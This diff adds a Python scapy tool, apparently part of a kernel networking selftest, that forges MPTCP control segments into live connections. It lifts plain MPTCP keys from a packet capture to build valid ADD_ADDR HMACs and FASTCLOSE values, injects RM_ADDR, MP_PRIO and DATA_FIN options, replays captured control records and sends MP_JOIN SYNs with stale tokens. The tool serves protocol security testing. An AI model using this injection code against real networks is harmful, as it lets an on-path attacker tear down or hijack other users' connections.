@@ -1,0 +1,260 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: GPL-2.0
+"""Forge MPTCP control segments into a live connection (scapy).
+
+Run in the router namespace of a path.  The test freezes the direction
+it forges in (an nft drop rule), so the last segment the router forwarded
+in that direction tells the receiver's rcv_nxt exactly; this tool reads
+it from a capture of the egress interface, builds the forged segment
+from it (addresses, ports, sequence and acknowledgment numbers,
+timestamps) and sends it on that interface.
+
+  mptcp_forge.py opt PCAP IFACE DIR PORT KIND [ARGS]   forged option on a
+        pure ACK; KIND: rm_addr ID | add_addr ID ADDR | mp_prio |
+        data_fin | fastclose
+  mptcp_forge.py replay PCAP IFACE DIR PORT WHAT        a captured segment
+        again, at the current sequence number; WHAT: add_addr | ctrl
+  mptcp_forge.py join PCAP SRC DST DPORT                MP_JOIN SYN with the
+        token of an earlier connection's join (found in PCAP)
+  mptcp_forge.py token PCAP                             print that token
+
+DIR is s2c (towards the client, server's address as source) or c2s.  For
+plain MPTCP the keys come from the MP_CAPABLE of the capture (version 1
+sends them in clear), so forged ADD_ADDR and FASTCLOSE carry the values a
+plain MPTCP peer accepts; MPTCPsec never sends keys, so the forger has
+none.  One line "forged: ..." on stdout says what was sent.
+"""
+import hashlib
+import hmac
+import os
+import struct
+import sys
+
+from scapy.all import Ether, IP, TCP, Raw, conf, rdpcap, send, sendp
+
+conf.verb = 0
+MPTCP = 30
+
+
+def mptcp_opts(tcp):
+    """raw MPTCP options of a scapy TCP layer: [bytes from subtype on]"""
+    out = []
+    for kind, val in tcp.options:
+        if kind == MPTCP or kind == 'MPTCP':
+            out.append(bytes(val))
+    return out
+
+
+def subtype(raw):
+    return raw[0] >> 4
+
+
+def ends(pcap):
+    pkts = [p for p in rdpcap(pcap) if IP in p and TCP in p]
+    if not pkts:
+        sys.exit("no TCP segment in " + pcap)
+    return pkts
+
+
+def keys(pkts):
+    """(client key, server key) from a v1 MP_CAPABLE third ACK, or None"""
+    for p in pkts:
+        for o in mptcp_opts(p[TCP]):
+            # subtype 0, version 1, 20 bytes: both keys (RFC 8684 3.1)
+            if subtype(o) == 0 and (o[0] & 0xf) == 1 and len(o) >= 18:
+                return struct.unpack('!QQ', o[2:18])
+    return None
+
+
+def direction(pkts, dirn, port):
+    """segments of DIR: s2c has source port PORT, c2s destination PORT"""
+    if dirn == 's2c':
+        return [p for p in pkts if p[TCP].sport == port]
+    return [p for p in pkts if p[TCP].dport == port]
+
+
+def last(pkts, dirn, port):
+    seg = direction(pkts, dirn, port)
+    if not seg:
+        sys.exit("no %s segment for port %d" % (dirn, port))
+    # the highest end sequence number: what the receiver has now
+    def end(p):
+        return (p[TCP].seq + len(p[TCP].payload)) & 0xffffffff
+    best = seg[-1]
+    for p in seg:
+        if ((end(p) - end(best)) & 0xffffffff) < 0x80000000:
+            best = p
+    return best
+
+
+def ts_of(tcp):
+    for kind, val in tcp.options:
+        if kind == 'Timestamp':
+            return val
+    return None
+
+
+def forge(tmpl, mopts, payload=b''):
+    """a segment like TMPL, at its end sequence number, with MOPTS"""
+    t = tmpl[TCP]
+    seq = (t.seq + len(t.payload)) & 0xffffffff
+    opts = []
+    ts = ts_of(t)
+    if ts:
+        opts += [('NOP', None), ('NOP', None), ('Timestamp', ts)]
+    for o in mopts:
+        opts.append((MPTCP, o))
+    pkt = Ether(src=tmpl[Ether].src, dst=tmpl[Ether].dst) / \
+        IP(src=tmpl[IP].src, dst=tmpl[IP].dst, ttl=tmpl[IP].ttl) / \
+        TCP(sport=t.sport, dport=t.dport, seq=seq, ack=t.ack, flags='A',
+            window=t.window, options=opts)
+    if payload:
+        pkt = pkt / Raw(payload)
+    return pkt
+
+
+def add_addr_hmac(k_sender, k_receiver, aid, addr):
+    msg = bytes([aid]) + bytes(int(x) for x in addr.split('.'))
+    key = struct.pack('!QQ', k_sender, k_receiver)
+    return hmac.new(key, msg, hashlib.sha256).digest()[-8:]
+
+
+def latest_dsn_end(pkts, dirn, port):
+    """end of the highest DSS mapping seen in DIR (64-bit DSNs)"""
+    best = None
+    for p in direction(pkts, dirn, port):
+        for o in mptcp_opts(p[TCP]):
+            if subtype(o) != 2 or len(o) < 2:
+                continue
+            flags, pos = o[1], 2
+            if flags & 0x01:
+                pos += 8 if flags & 0x02 else 4
+            if not flags & 0x04 or not flags & 0x08 or len(o) < pos + 14:
+                continue
+            dsn = struct.unpack('!Q', o[pos:pos + 8])[0]
+            dlen = struct.unpack('!H', o[pos + 12:pos + 14])[0]
+            if best is None or dsn + dlen > best:
+                best = dsn + dlen
+    if best is None:
+        sys.exit("no 64-bit DSS mapping seen")
+    return best
+
+
+def cmd_opt(pcap, iface, dirn, port, kind, *args):
+    pkts = ends(pcap)
+    tmpl = last(pkts, dirn, port)
+    k = keys(pkts)
+    if kind == 'rm_addr':
+        o = bytes([0x40, int(args[0])])
+    elif kind == 'add_addr':
+        aid, addr = int(args[0]), args[1]
+        if k:
+            # sender is the other end: s2c -> the server's key first
+            ks, kr = (k[1], k[0]) if dirn == 's2c' else k
+            mac = add_addr_hmac(ks, kr, aid, addr)
+        else:
+            mac = os.urandom(8)
+        o = bytes([0x30, aid]) + bytes(int(x) for x in addr.split('.')) + mac
+    elif kind == 'mp_prio':
+        o = bytes([0x51])
+    elif kind == 'data_fin':
+        # DATA_FIN well ahead of what was received, so that it is taken
+        dsn = latest_dsn_end(pkts, dirn, port) + int(args[0] if args else 524288)
+        o = bytes([0x20, 0x1c]) + struct.pack('!QIH', dsn, 0, 1)
+    elif kind == 'fastclose':
+        if k:
+            # the receiver's key: s2c goes to the client
+            rk = k[0] if dirn == 's2c' else k[1]
+            val = struct.pack('!Q', rk)
+        else:
+            val = os.urandom(8)
+        o = bytes([0x70, 0]) + val
+    else:
+        sys.exit("unknown option " + kind)
+    pkt = forge(tmpl, [o])
+    sendp(pkt, iface=iface)
+    print("forged: %s %s %s:%d -> %s:%d seq %d ack %d keys %s" %
+          (kind, dirn, pkt[IP].src, pkt[TCP].sport, pkt[IP].dst,
+           pkt[TCP].dport, pkt[TCP].seq, pkt[TCP].ack,
+           "from capture" if k else "none"))
+
+
+def is_ctrl(p):
+    """an MPTCPsec control record: ctr(8) Topt(16) olen(2) options"""
+    pl = bytes(p[TCP].payload)
+    if len(pl) < 26:
+        return None
+    olen = struct.unpack('!H', pl[24:26])[0]
+    if len(pl) != 26 + olen:
+        return None
+    return olen, pl
+
+
+def cmd_replay(pcap, iface, dirn, port, what):
+    pkts = ends(pcap)
+    tmpl = last(pkts, dirn, port)
+    found = None
+    for p in direction(pkts, dirn, port):
+        mo = mptcp_opts(p[TCP])
+        c = is_ctrl(p)
+        if what == 'add_addr':
+            # plain: an ADD_ADDR option (not an echo); MPTCPsec: a control
+            # record carrying a canonical ADD_ADDR (subtype 3)
+            if any(subtype(o) == 3 and not o[0] & 1 for o in mo) or \
+               (c and c[0] and c[1][26] == 3):
+                found = p
+                break
+        elif what == 'ctrl':
+            if (c and not c[0]) or (not len(p[TCP].payload) and
+                                    any(subtype(o) == 2 for o in mo)):
+                found = p
+                break
+    if found is None:
+        sys.exit("nothing to replay (%s)" % what)
+    mo = [o for o in mptcp_opts(found[TCP])]
+    pkt = forge(tmpl, mo, bytes(found[TCP].payload))
+    sendp(pkt, iface=iface)
+    print("forged: replay of %s (%d payload bytes, captured seq %d) at seq %d" %
+          (what, len(found[TCP].payload), found[TCP].seq, pkt[TCP].seq))
+
+
+def join_token(pcap):
+    for p in ends(pcap):
+        if p[TCP].flags & 0x12 != 0x02:
+            continue
+        for o in mptcp_opts(p[TCP]):
+            if subtype(o) == 1 and len(o) == 10:
+                return struct.unpack('!I', o[2:6])[0]
+    sys.exit("no MP_JOIN SYN in " + pcap)
+
+
+def cmd_join(pcap, src, dst, dport):
+    tok = join_token(pcap)
+    o = bytes([0x10, 7]) + struct.pack('!II', tok, struct.unpack('!I', os.urandom(4))[0])
+    pkt = IP(src=src, dst=dst) / TCP(sport=40000 + os.getpid() % 20000,
+                                     dport=int(dport), flags='S',
+                                     seq=struct.unpack('!I', os.urandom(4))[0],
+                                     options=[('MSS', 1460), (MPTCP, o)])
+    send(pkt)
+    print("forged: MP_JOIN SYN %s -> %s:%s with stale token %08x" %
+          (src, dst, dport, tok))
+
+
+def main(argv):
+    if len(argv) < 2:
+        sys.exit(__doc__)
+    cmd, a = argv[1], argv[2:]
+    if cmd == 'opt':
+        cmd_opt(a[0], a[1], a[2], int(a[3]), a[4], *a[5:])
+    elif cmd == 'replay':
+        cmd_replay(a[0], a[1], a[2], int(a[3]), a[4])
+    elif cmd == 'join':
+        cmd_join(*a)
+    elif cmd == 'token':
+        print("%08x" % join_token(a[0]))
+    else:
+        sys.exit(__doc__)
+
+
+if __name__ == '__main__':
+    main(sys.argv)
